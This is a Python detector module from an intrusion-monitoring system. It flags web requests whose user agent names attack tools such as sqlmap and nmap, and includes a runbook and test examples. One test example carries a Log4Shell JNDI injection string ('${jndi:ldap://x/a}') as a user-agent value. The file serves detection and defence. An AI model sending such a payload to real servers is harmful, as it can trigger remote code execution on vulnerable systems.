"""Known attack tools by their user agent: sqlmap, nikto, nmap, nuclei and the like."""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from detectors.base import Example, History, Window, finding
from detectors.intrusion.web import FAMILY, WEB_ACTIONS, request
from monitor.events import Event
from monitor.findings import Finding, Severity
from monitor.intrusion_settings import ScannerAgentSettings


@dataclass(frozen=True, slots=True)
class ScannerAgent:
    """One request is enough: these tools announce themselves (CrowdSec http-bad-user-agent)."""

    settings: ScannerAgentSettings
    id: str = "intrusion.scanner_agent"
    family: str = FAMILY
    title: str = "Attack tool"
    severity: Severity = Severity.LOW
    mitre: str = "T1595.002"
    actions: frozenset[str] = WEB_ACTIONS
    windows: tuple[Window, ...] = ()
    runbook: str = (
        "A vulnerability scanner or attack tool is pointed at the website. Block the IP, "
        "then look at the other intrusion incidents of the same IP: what it tried and whether "
        "anything answered 200 where it should not."
    )
    pattern: re.Pattern[str] = field(init=False, repr=False)

    def __post_init__(self) -> None:
        fragments = "|".join(re.escape(agent) for agent in self.settings.agents)
        object.__setattr__(self, "pattern", re.compile(fragments, re.IGNORECASE))

    def evaluate(self, event: Event, history: History) -> Finding | None:
        agent = event.user_agent
        if agent is None or event.source_ip is None:
            return None
        match = self.pattern.search(agent)
        if match is None:
            return None
        tool = match[0].lower()
        return finding(
            self,
            event,
            title=f"{self.title} ({tool}) from {event.source_ip}",
            key=f"ip={event.source_ip}",
            entities={"ip": event.source_ip},
        )

    def examples(self) -> tuple[Example, ...]:
        ip = "198.51.100.40"
        return (
            Example("sqlmap", (request(ip, "/", agent="sqlmap/1.7.2#stable"),), fires=True),
            Example(
                "Nmap Scripting Engine",
                (request(ip, "/", 404, agent="Mozilla/5.0 (compatible; Nmap Scripting Engine)"),),
                fires=True,
            ),
            Example(
                "Log4Shell in the agent", (request(ip, "/", agent="${jndi:ldap://x/a}"),), True
            ),
            Example("a browser", (request(ip, "/"),), fires=False),
            Example("curl", (request(ip, "/", agent="curl/8.5.0"),), fires=False),
        )
